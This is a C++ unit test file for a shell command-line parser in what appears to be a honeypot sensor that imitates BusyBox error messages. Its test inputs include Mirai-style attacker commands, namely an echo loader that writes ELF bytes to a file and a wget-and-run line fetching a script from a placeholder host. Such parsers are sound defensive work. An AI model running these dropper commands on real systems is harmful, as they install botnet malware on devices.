#include "sensor/shell/command_line.h"

#include <gtest/gtest.h>

namespace mitsu::sensor {
namespace {

std::vector<std::string> argv_of(const ParsedLine& p, std::size_t pipeline, std::size_t command) {
  return p.pipelines.at(pipeline).commands.at(command).argv;
}

TEST(CommandLine, WordsQuotesAndEscapes) {
  auto p = parse_command_line(R"(echo 'a b' "c \"d\" \$e" f\ g h'i'"j")");
  ASSERT_TRUE(p.error.empty()) << p.error;
  EXPECT_EQ(argv_of(p, 0, 0),
            (std::vector<std::string>{"echo", "a b", "c \"d\" $e", "f g", "hij"}));
}

TEST(CommandLine, EchoLoaderEscapesSurviveForEcho) {
  // Mirai's echo loader: the shell keeps \x escapes for echo -e to decode.
  auto p = parse_command_line(R"(echo -ne '\x7f\x45\x4c\x46' >> .d)");
  ASSERT_TRUE(p.error.empty());
  EXPECT_EQ(argv_of(p, 0, 0), (std::vector<std::string>{"echo", "-ne", R"(\x7f\x45\x4c\x46)"}));
  const auto& r = p.pipelines[0].commands[0].redirections;
  ASSERT_EQ(r.size(), 1u);
  EXPECT_EQ(r[0].kind, Redirection::Kind::kAppend);
  EXPECT_EQ(r[0].fd, 1);
  EXPECT_EQ(r[0].target, ".d");
}

TEST(CommandLine, ListsAndPipelines) {
  auto p =
      parse_command_line("cd /tmp || cd /var/run; wget http://x/b.sh && sh b.sh & cat a | grep b");
  ASSERT_TRUE(p.error.empty()) << p.error;
  ASSERT_EQ(p.pipelines.size(), 5u);
  EXPECT_EQ(p.pipelines[0].then, Connector::kOr);
  EXPECT_EQ(p.pipelines[1].then, Connector::kSequence);
  EXPECT_EQ(p.pipelines[2].then, Connector::kAnd);
  EXPECT_EQ(p.pipelines[3].then, Connector::kBackground);
  ASSERT_EQ(p.pipelines[4].commands.size(), 2u);
  EXPECT_EQ(argv_of(p, 4, 1), (std::vector<std::string>{"grep", "b"}));
}

TEST(CommandLine, Redirections) {
  auto p = parse_command_line("cmd >/dev/null 2>&1 <in 2> err");
  ASSERT_TRUE(p.error.empty()) << p.error;
  const auto& r = p.pipelines[0].commands[0].redirections;
  ASSERT_EQ(r.size(), 4u);
  EXPECT_EQ(r[0].target, "/dev/null");
  EXPECT_EQ(r[1].kind, Redirection::Kind::kDuplicate);
  EXPECT_EQ(r[1].fd, 2);
  EXPECT_EQ(r[1].target, "1");
  EXPECT_EQ(r[2].kind, Redirection::Kind::kRead);
  EXPECT_EQ(r[3].fd, 2);
  EXPECT_EQ(r[3].target, "err");
}

TEST(CommandLine, SubstitutionsStayLiteral) {
  auto p = parse_command_line("echo $(uname -m) `id` $HOME");
  ASSERT_TRUE(p.error.empty());
  EXPECT_EQ(argv_of(p, 0, 0), (std::vector<std::string>{"echo", "$(uname -m)", "`id`", "$HOME"}));
}

TEST(CommandLine, ErrorsAsBusyboxWordsThem) {
  EXPECT_EQ(parse_command_line("echo 'abc").error, "sh: syntax error: unterminated quoted string");
  EXPECT_EQ(parse_command_line("; ls").error, "sh: syntax error: unexpected \";\"");
  EXPECT_EQ(parse_command_line("ls | ;").error, "sh: syntax error: unexpected \";\"");
  EXPECT_EQ(parse_command_line("ls |").error, "sh: syntax error: unexpected end of file");
  EXPECT_EQ(parse_command_line("ls &&").error, "sh: syntax error: unexpected end of file");
  EXPECT_EQ(parse_command_line("echo >").error, "sh: syntax error: unexpected newline");
  EXPECT_TRUE(parse_command_line("").pipelines.empty());
  EXPECT_TRUE(parse_command_line("   # a comment").pipelines.empty());
}

}  // namespace
}  // namespace mitsu::sensor
